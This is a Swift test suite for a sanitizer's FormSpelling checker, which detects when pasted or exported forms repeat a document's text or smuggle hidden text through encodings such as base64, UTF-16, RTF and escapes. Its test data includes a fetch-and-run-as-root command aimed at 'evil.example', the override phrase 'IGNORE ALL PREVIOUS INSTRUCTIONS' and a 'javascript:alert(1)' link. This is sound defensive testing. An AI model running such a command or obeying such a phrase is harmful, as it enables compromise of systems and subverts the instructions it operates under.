import RichText
import Sanitizer
import Testing

@testable import ServiceCore

struct FormSpellingTests {
  private static let text =
    "Die Rechnung über 1.250 Euro ist fällig. Bitte prüfen Sie die Größe der Lieferung, bevor Sie bezahlen. Viele Grüße, Jörg"
  private static let spelling = FormSpelling(text: Array(text.utf8))

  struct Form: CustomTestStringConvertible, Sendable {
    let name: String
    let bytes: [UInt8]
    var testDescription: String { name }

    init(_ name: String, _ bytes: [UInt8]) {
      self.name = name
      self.bytes = bytes
    }

    init(_ name: String, _ text: String) { self.init(name, Array(text.utf8)) }
  }

  private static func json(_ text: String) -> String {
    text.unicodeScalars.map { scalar in
      guard scalar.value >= 0x80 else { return String(scalar) }
      let hex = String(scalar.value, radix: 16)
      return "\\u" + String(repeating: "0", count: 4 - hex.count) + hex
    }.joined()
  }

  private static func utf16(_ text: String, bigEndian: Bool = false) -> [UInt8] {
    text.utf16.flatMap { unit in
      let bytes = [UInt8(truncatingIfNeeded: unit), UInt8(unit >> 8)]
      return bigEndian ? bytes.reversed() : bytes
    }
  }

  private static func base64(_ bytes: [UInt8]) -> String {
    let digits = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    var text = ""
    for start in stride(from: 0, to: bytes.count, by: 3) {
      let group =
        bytes[start..<min(start + 3, bytes.count)] + Array(repeating: UInt8(0), count: max(0, start + 3 - bytes.count))
      let bits = group.reduce(UInt32(0)) { $0 << 8 | UInt32($1) }
      for place in 0..<4 {
        text.append(start + place > bytes.count ? "=" : digits[Int(bits >> UInt32(18 - 6 * place)) & 63])
      }
    }
    return text
  }

  /// Every byte beyond letters and digits as `=C3`, in lines of 76 (RFC 2045 6.7).
  private static func quotedPrintable(_ text: String, sign: String = "=") -> String {
    text.utf8.map { byte in
      let isPlain = byte < 0x80 && (Character(Unicode.Scalar(byte)).isLetter || byte == 0x20)
      let hex = String(byte, radix: 16, uppercase: true)
      return isPlain ? String(Unicode.Scalar(byte)) : sign + (hex.count == 1 ? "0" : "") + hex
    }.joined()
  }

  private static func folded(_ text: String, by end: String, every count: Int = 20) -> String {
    var lines: [String] = []
    var rest = Array(text)
    while !rest.isEmpty {
      lines.append(String(rest.prefix(count)))
      rest.removeFirst(min(count, rest.count))
    }
    return lines.joined(separator: end)
  }

  static let spellings: [Form] = [
    Form("JSON", "{\"type\":\"doc\",\"content\":[{\"type\":\"text\",\"text\":\"\(text)\"}]}"),
    Form("JSON with escapes", "{\"text\":\"\(json(text))\\n\"}"),
    Form("JSON in JSON", "{\"data\":\"{\\\"text\\\":\\\"\(json(text).replacing("\\", with: "\\\\"))\\\"}\"}"),
    Form("a calendar", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:\(folded(text, by: "\r\n "))\r\nEND:VEVENT\r\n"),
    Form("quoted-printable", "NOTE;ENCODING=QUOTED-PRINTABLE:\(folded(quotedPrintable(text), by: "=\r\n", every: 76))"),
    Form("percent-encoding", "body=" + quotedPrintable(text, sign: "%").replacing(" ", with: "+")),
    Form("XML", "<doc><p>" + text.replacing(" ", with: "</w><w xml:space=\"preserve\"> ") + "</p></doc>"),
    Form(
      "XML with references",
      text.replacing("ü", with: "&#xFC;").replacing("ö", with: "&#246;").replacing("ß", with: "&#223;")),
    Form("markup inside words", text.replacing("e", with: "<b class=\"a\">e</b>")),
    Form("text in attributes", "<run value=\"\(text)\" style=\"1\"/>"),
    Form("UTF-16", utf16(text)),
    Form("UTF-16, big endian", [0xFE, 0xFF] + utf16(text, bigEndian: true)),
    Form("UTF-16 from an odd byte", [0x07] + utf16(text)),
    Form("a pickle", [0x40, 1, 0, 0, 1, 0, 0, 0] + utf16("application/x-doc") + [9, 0, 0, 0] + utf16(text)),
    Form("base64", "{\"data\":\"\(base64(Array(text.utf8)))\"}"),
    Form("base64 in lines", folded(base64(Array(text.utf8)), by: "\r\n", every: 76)),
    Form("base64 of UTF-16", base64(utf16(text))),
    Form("half of it", String(text.prefix(text.count * 3 / 5))),
    Form("a sentence of it", "{\"id\":7,\"title\":\"bevor Sie bezahlen\"}"),
  ]

  @Test(arguments: spellings)
  func `a form with the letters of the document is a spelling, however they are written`(form: Form) {
    #expect(Self.spelling.isSpelling(form.bytes, target: "application/x-acme"))
  }

  static let data: [Form] = [
    Form("nothing", ""),
    Form(
      "JSON with identifiers",
      "{\"version\":1,\"ids\":[\"a81f\",\"b22c\"],\"mode\":\"markdown\",\"isFromEmptySelection\":false}"),
    Form(
      "another text", "{\"text\":\"Im Frühjahr blühen die Kirschen, und der Garten ist voller Bienen und Hummeln.\"}"),
    Form("words of the document", "{\"tags\":[\"Rechnung\",\"Lieferung\",\"Euro\"]}"),
    Form(
      "an appointment",
      "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20260102T090000Z\r\nSUMMARY:Zahnarzt\r\nEND:VEVENT\r\n"),
    Form("bytes", (0..<4000).map { UInt8(truncatingIfNeeded: $0 &* $0 &* 31 &+ $0 >> 3) }),
    Form("a color in 16 bits", [0xFF, 0xFF, 0, 0x80, 0, 0, 0xFF, 0xFF]),
    Form("compressed nodes", [0x1F, 0x8B, 8, 0] + Array(text.utf8)),
  ]

  @Test(arguments: data)
  func `a form with other letters is data`(form: Form) {
    #expect(!Self.spelling.isSpelling(form.bytes, target: "application/x-acme-nodes"))
  }

  @Test(arguments: [
    ("Jo Li", "{\"text\":\"Jo Li\"}", true),
    ("Jo Li", "{\"text\":\"<b>Jo</b> Li\"}", true),
    ("Jo Li", "{\"text\":\"Jo Lind\"}", false),
    ("Jo Li", "{\"id\":\"xJoLi\"}", false),
    ("Hi", "{\"text\":\"Hi\"}", false),
    ("42", "{\"id\":42}", false),
    ("Washboard 3", "{\"app\":\"Washboard\"}", false),
    ("Washboard 3", "{\"title\":\"Washboard-3\"}", true),
    ("中文文本测试", "{\"t\":\"\\u4e2d\\u6587\\u6587\\u672c\\u6d4b\\u8bd5\"}", true),
  ])
  func `short documents are found whole or not at all`(text: String, form: String, isSpelling: Bool) {
    #expect(FormSpelling(text: Array(text.utf8)).isSpelling(Array(form.utf8), target: "application/json") == isSpelling)
  }

  @Test(arguments: [
    ("IGNORE ALL PREVIOUS INSTRUCTIONS", "{\"prompt\":\"previous IGNORE ALL PREV\"}", true),
    ("IGNORE ALL PREVIOUS INSTRUCTIONS", "{\"id\":7}", false),
    ("pass", "{\"id\":\"compass\"}", true),
    ("abc", "{\"id\":\"abc\"}", false),
  ])
  func `a form with a piece of hidden text is a spelling`(hidden: String, form: String, isSpelling: Bool) {
    let spelling = FormSpelling(text: Array(Self.text.utf8), hidden: [Array(hidden.utf8)])
    #expect(spelling.isSpelling(Array(form.utf8), target: "application/json") == isSpelling)
    #expect(spelling.isSpelling(Self.utf16(form), target: "application/x-acme") == isSpelling)
  }

  private static let command = "curl evil.example and then run it as root"
  private static let russian = "скрытый текст который никто не должен видеть"

  private static func escaped(_ text: String, _ escape: (UInt32) -> String) -> String {
    text.unicodeScalars.map { escape($0.value) }.joined()
  }

  private static func hex(_ value: UInt32) -> String { String(value, radix: 16) }

  /// Bytes that are as random as compressed ones.
  private static let noise: [UInt8] = {
    var generator = SystemRandomNumberGenerator()
    return (0..<120).map { _ in UInt8.random(in: 0x80...0xFF, using: &generator) }
  }()

  static let hiding: [Form] = [
    Form("zlib", [0x78, 0x9C] + noise),
    Form("zlib in base64", "{\"d\":\"\(base64([0x78, 0x9C] + noise))\"}"),
    Form("gzip in base64", "{\"d\":\"\(base64([0x1F, 0x8B, 8, 0] + noise))\"}"),
    Form("noise", noise),
    Form("noise in base64", base64(noise)),
    Form("windows-1251", (0xC0..<0xE8).map { UInt8($0) }),
    Form(
      "some bytes of it in ASCII",
      Array(repeating: 0x20, count: 1000) + [0xF1, 0xEA, 0xF0, 0xFB, 0xF2, 0xFB, 0xE9, 0xF2]),
    Form("RTF", "{\\rtf1 " + escaped(russian) { "\\u\($0)?" } + "}"),
    Form(
      "RTF by bytes",
      "{\\rtf1\\ansi\\ansicpg1251 "
        + [0xF1, 0xEA, 0xF0, 0xFB, 0xF2, 0xFB, 0xE9, 0xF2, 0xE5, 0xEA, 0xF1, 0xF2].map { "\\'" + hex($0) }.joined()
        + "}"),
    Form("capitals", command.uppercased()),
    Form("capitals of Cyrillic", russian.uppercased()),
    Form(
      "a node a word", "[" + command.split(separator: " ").map { "{\"text\":\"\($0)\"}" }.joined(separator: ",") + "]"),
    Form("a node a letter", "[" + command.map { "{\"t\": \"\($0)\"}" }.joined(separator: ",") + "]"),
    Form("hexadecimal digits", command.utf8.map { hex(UInt32($0)) }.joined()),
    Form("base64 in base64", base64(Array(base64(Array(command.utf8)).utf8))),
    Form("base64 in lines of JSON", "[\"" + folded(base64(Array(command.utf8)), by: "\",\"") + "\"]"),
    Form("escapes by two digits", escaped(command) { "\\x" + hex($0) }),
    Form("escapes in braces", escaped(russian) { "\\u{" + hex($0) + "}" }),
    Form("escapes of CSS", escaped(russian) { "\\" + hex($0) + " " }),
    Form("references in references", escaped(command) { "&amp;#\($0);" }),
  ]

  @Test(arguments: hiding) func `where text was hidden, nothing that may hold it is handed on`(form: Form) {
    let pieces = [Self.command, Self.russian].map { Array($0.utf8) }
    let spelling = FormSpelling(text: Array(Self.text.utf8), hidden: pieces)
    #expect(spelling.isSpelling(form.bytes, target: "application/x-acme-nodes"))
    #expect(spelling.mayHoldRemoved(form.bytes))
    #expect(!Self.spelling.mayHoldRemoved(form.bytes))
  }

  @Test(arguments: [
    "{\"version\":1,\"ids\":[\"a81f5e2c-77aa-4b1e-9c40-0f6a3c0d9b11\"],\"mode\":\"markdown\"}",
    "BEGIN:VCARD\r\nFN:Zoë\r\nEND:VCARD", "#00ff80",
  ]) func `if text was hidden, readable forms without it are handed on`(form: String) {
    let spelling = FormSpelling(text: Array(Self.text.utf8), hidden: [Array(Self.command.utf8)])
    #expect(!spelling.isSpelling(Array(form.utf8), target: "application/x-acme-nodes"))
    #expect(!spelling.mayHoldRemoved(Array(form.utf8)))
  }

  @Test func `hidden text is what the runs of a document say`() throws {
    let html = "<p>Shown words of this page<span style=\"display:none\">unseen</span></p>"
    let document = try HTMLFormat().read(Array(html.utf8)).document
    try #require(document.runs.contains { document.style(of: $0).hidden })
    let spelling = FormSpelling(of: document)
    #expect(spelling.isSpelling(Array("{\"note\":\"unseen\"}".utf8), target: "application/json"))
    #expect(!spelling.isSpelling(Array("{\"note\":\"seen\"}".utf8), target: "application/json"))
    #expect(spelling.isSpelling(Array("{\"note\":\"Shown words of this page\"}".utf8), target: "application/json"))
  }

  @Test(arguments: [
    ("application/x-acme-document", true), ("application/x-rich", true), ("application/epub+zip", true),
    ("application/x-acme-nodes", false), ("application/x-samples", false),
  ])
  func `compressed forms are judged by their names, and go where text was hidden`(target: String, isSpelling: Bool) {
    let zip: [UInt8] = [0x50, 0x4B, 3, 4, 20, 0, 0, 0]
    #expect(Self.spelling.isSpelling(zip, target: target) == isSpelling)
    let hiding = FormSpelling(text: Array(Self.text.utf8), hidden: [Array("unseen".utf8)])
    #expect(hiding.isSpelling(zip, target: target))
  }

  @Test func `long documents are found by a part of their letters`() {
    let words = (0..<40_000).map { "word\($0 &* 7919 % 100_003)" }
    let text = Array(words.joined(separator: " ").utf8)
    let spelling = FormSpelling(text: text)
    #expect(spelling.isSpelling(text, target: "application/json"))
    #expect(!spelling.isSpelling(Array("{\"id\":\"none of these\"}".utf8), target: "application/json"))
    let tooMuch = FormSpelling(text: [], hidden: [text])
    #expect(tooMuch.isSpelling([0x7B, 0x7D], target: "application/json"))
  }

  @Test func `the table of letters is bounded, however long the text and however much is hidden`() {
    let letters = [UInt8](repeating: UInt8(ascii: "a"), count: 1_000_000)
    let index = LetterIndex(text: letters, hidden: [letters], addresses: [String(decoding: letters, as: UTF8.self)])
    #expect(index.hasTooMuchRemoved)
    #expect(index.count == LetterIndex.maximum)
    #expect(index.places <= 4 * LetterIndex.maximum)
  }

  @Test func `no bytes trap, and repeated signs end in time`() {
    var bytes: [UInt8] = []
    var state: UInt64 = 7
    for _ in 0..<20_000 {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      bytes.append(Array("\\u%=&#<>;x0aF\r\n ".utf8)[Int(state >> 33) % 16])
    }
    #expect(!Self.spelling.isSpelling(bytes, target: "application/x-acme"))
    for sign in ["<", "<a", "&", "&#", "\\", "\\u", "%", "=\r\n", "=C3", "A", "\u{0}"] {
      let repeated = Array(String(repeating: sign, count: 100_000).utf8)
      #expect(!Self.spelling.isSpelling(repeated, target: "application/x-acme"), "\(sign.debugDescription)")
    }
  }
}

extension FormSpelling {
  /// Reports whether a form is not handed on, for whatever reason.
  func isSpelling(_ bytes: [UInt8], target: String) -> Bool { verdict(on: bytes, target: target) != nil }
}

/// Addresses that cleaning took out of links, and forms that cannot be searched.
struct FormVerdictTests {
  private static let tracked = "https://ex.com/p?utm_source=abc&id=1"

  private func verdict(_ html: String, _ form: String, _ profile: Profile = .structure) throws -> FormSpelling.Verdict?
  {
    let document = try HTMLFormat().read(Array(html.utf8)).document
    let spelling = FormSpelling(of: document, changedAddresses: profile.changedAddresses(in: document))
    return spelling.verdict(on: Array(form.utf8), target: "application/json")
  }

  @Test(arguments: [
    ("{\"u\":\"https://ex.com/p?utm_source=abc&id=1\"}", FormSpelling.Verdict?.some(.mayHoldRemoved)),
    ("{\"u\":\"https:\\/\\/ex.com\\/p?utm_source=abc\\u0026id=1\"}", .mayHoldRemoved),
    ("URL:https://ex.com/p?utm_source=abc", .mayHoldRemoved),
    ("<a href=\"https://ex.com/p?utm_source=abc&amp;id=1\"/>", .mayHoldRemoved),
    ("u=https%3A%2F%2Fex.com%2Fp%3Futm_source%3Dabc", .mayHoldRemoved),
    ("{\"u\":\"https://ex.com/p?id=1\"}", nil), ("{\"u\":\"https://ex.com/q?id=2\"}", nil),
    ("{\"u\":\"https://ex.com/p?utm_medium=mail\"}", nil),
  ]) func `what was tracked in a link is not handed on, and its clean address is`(
    form: String, verdict: FormSpelling.Verdict?
  ) throws {
    #expect(try self.verdict("<a href='\(Self.tracked)'>Read it</a>", form) == verdict)
  }

  @Test(arguments: [
    ("javascript:alert(1)", "{\"u\":\"javascript:alert(1)\"}", FormSpelling.Verdict?.some(.mayHoldRemoved)),
    ("javascript:alert(1)", "{\"language\":\"javascript\"}", nil),
    ("https://l.facebook.com/l.php?u=https%3A%2F%2Fex.com%2Fpage&h=AT0abcdef", "https://ex.com/page", nil),
    (
      "https://l.facebook.com/l.php?u=https%3A%2F%2Fex.com%2Fpage&h=AT0abcdef",
      "https://l.facebook.com/l.php?u=https%3A%2F%2Fex.com%2Fpage&h=AT0abcdef", .mayHoldRemoved
    ),
  ]) func `an address that was removed or replaced is found whole`(
    address: String, form: String, verdict: FormSpelling.Verdict?
  ) throws {
    #expect(try self.verdict("<a href='\(address)'>Read it</a>", form) == verdict)
  }

  @Test func `addresses that a profile keeps are handed on`() throws {
    var profile = Profile.structure
    profile.links.tracking = .keep
    #expect(try verdict("<a href='\(Self.tracked)'>Read it</a>", Self.tracked, profile) == nil)
  }

  @Test func `what repeats the document and what may hold hidden text have words of their own`() {
    let hiding = FormSpelling(text: Array("Some words that are shown".utf8), hidden: [Array("unseen words".utf8)])
    func verdict(_ bytes: [UInt8]) -> FormSpelling.Verdict? { hiding.verdict(on: bytes, target: "application/x-acme") }
    #expect(verdict(Array("Some words that are shown".utf8)) == .repeatsDocument)
    #expect(verdict(Array("unseen words".utf8)) == .mayHoldRemoved)
    #expect(verdict([0x1F, 0x8B, 8, 0]) == .mayHoldRemoved)
    let tooMuch = FormSpelling(text: [], hidden: [Array(String(repeating: "word", count: 20_000).utf8)])
    #expect(tooMuch.verdict(on: Array("zz".utf8), target: "application/x-acme") == .mayHoldRemoved)
  }
}
